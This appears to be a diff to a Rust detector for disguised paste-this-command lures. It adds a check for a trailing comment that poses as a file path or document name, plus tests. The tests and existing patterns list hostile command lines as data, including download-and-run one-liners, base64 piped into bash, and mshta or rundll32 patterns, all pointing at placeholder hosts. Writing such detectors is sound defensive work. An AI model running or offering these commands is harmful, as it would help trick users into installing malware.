@@ -325,6 +325,14 @@ fn is_stealthy_command(text: &str) -> bool {
         || starts("nslookup") && has(&["| iex", "|iex", "| cmd", "|cmd", "for /f"])
         || (starts("forfiles") || starts("pcalua")) && has(&["mshta", "shell", "http"])
         || has(&["net use"]) && has(&["\\\\"]) && has(&["rundll32", "regsvr32", "start "]);
+    // The end of it, a comment, is a file or an address that the visitor believes to be pasting.
+    let decoy = small.rsplit_once(" # ").is_some_and(|(_, end)| {
+        end.contains(":\\")
+            || end.contains("\\\\")
+            || [".pdf", ".docx", ".doc", ".xlsx", ".pptx", ".zip"]
+                .iter()
+                .any(|kind| end.trim_end().ends_with(kind))
+    });
     // What is before the spaces is not seen in the field that it is pasted into.
     let out_of_sight = (shell || mshta || starts("cmd")) && small.contains(&" ".repeat(16));
     mshta
@@ -342,6 +350,7 @@ fn is_stealthy_command(text: &str) -> bool {
         || mac
         || odd
         || out_of_sight
+        || decoy && (shell || starts("cmd") || starts("curl"))
 }
 
 /// Whether a text that tells people to open a place where commands are typed also tells them to paste; `None` where it
@@ -498,6 +507,7 @@ mod tests {
             "Start-BitsTransfer -Source 'https://a.invalid/a' -Destination \"$env:TEMP\\a.exe\"; Start-Process \"$env:TEMP\\a.exe\"",
             "cmd /c start /min curl https://a.invalid/a -o %temp%\\a.bat",
             "echo \"Y3VybCA=\" | base64 -d | bash",
+            "Powershell.exe -c ping a.invalid # C:\\company\\drive\\Policy.docx",
         ] {
             assert!(is_stealthy_command(command), "{command}");
         }
@@ -509,6 +519,7 @@ mod tests {
             "curl -Lo /tmp/tool https://example.test/tool; chmod +x /tmp/tool; sudo mv /tmp/tool /usr/local/bin",
             "iwr https://example.test/install.ps1 -useb | iex",
             "The PowerShell shell and its commands",
+            "powershell -c \"Get-Item a\" # lists a file",
             "cmd+c",
         ] {
             assert!(!is_stealthy_command(instruction), "{instruction}");
